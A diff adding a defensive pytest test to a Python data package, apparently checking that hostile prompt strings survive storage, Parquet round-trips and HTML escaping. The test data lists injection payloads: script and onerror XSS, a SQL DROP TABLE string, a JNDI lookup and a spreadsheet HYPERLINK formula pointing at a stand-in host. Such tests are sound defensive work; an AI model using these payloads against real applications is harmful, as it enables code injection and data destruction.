@@ -297,3 +297,43 @@ def test_parquet_from_another_tool_with_a_task_id_column_reads_as_a_typed_frame(
     names = schema.column_names()
     assert list(df.columns)[: len(names)] == names  # typed; its own columns kept after
     assert _digest(path) == before
+
+
+# --- hostile content in the records -----------------------------------------------------
+HOSTILE_PROMPTS = [
+    "<script>alert('prompt')</script>",
+    "</td></tr></table><img src=x onerror=alert(1)>",
+    "Robert'); DROP TABLE records;-- \"quoted\" `tick`",
+    "line one\nline two\r\n\ttabbed, with commas; and semicolons",
+    "nul \x00 bell \x07 escape \x1b[31m red",
+    "RTL \u202e override, zero\u200bwidth, emoji 🎬🦄, 视频, ünïcødé",
+    "{{7*7}} ${jndi:ldap://x.example/a} %s %n {0}",
+    "=HYPERLINK(\"http://x.example\",\"click\")",
+    "p" * 100_000,
+]
+
+
+def test_hostile_prompts_survive_store_frame_and_parquet_exactly_and_are_escaped_in_html(
+    fresh_sim, tmp_path
+):
+    import requests
+
+    from veo_notebook import read_parquet, report, to_parquet
+    from veo_notebook.simulator import GENERATE_PATH
+
+    sim = fresh_sim(n_tasks=5, clock_speed=100_000.0)
+    headers = {"Authorization": f"Bearer {SENTINEL_KEY}", "User-Agent": "tests"}
+    ids = []
+    for prompt in HOSTILE_PROMPTS:
+        r = requests.post(sim.base_url + GENERATE_PATH, json={"prompt": prompt}, headers=headers)
+        ids.append(r.json()["data"]["taskId"])
+    client = Client(SENTINEL_KEY, base_url=sim.base_url)
+    df = fetch_records(ids, client=client, store=tmp_path / "s.sqlite", progress=False)
+    assert df["prompt"].tolist() == HOSTILE_PROMPTS
+    assert df["fetch_error"].isna().all()
+    with Store(tmp_path / "s.sqlite") as st:
+        assert st.to_frame(ids)["prompt"].tolist() == HOSTILE_PROMPTS
+    back = read_parquet(to_parquet(df, tmp_path / "f.parquet"))
+    assert back["prompt"].tolist() == HOSTILE_PROMPTS
+    html = report(df, tmp_path / "r.html", figures=False).read_text(encoding="utf-8")
+    assert "<script>alert(" not in html and "onerror=alert" not in html
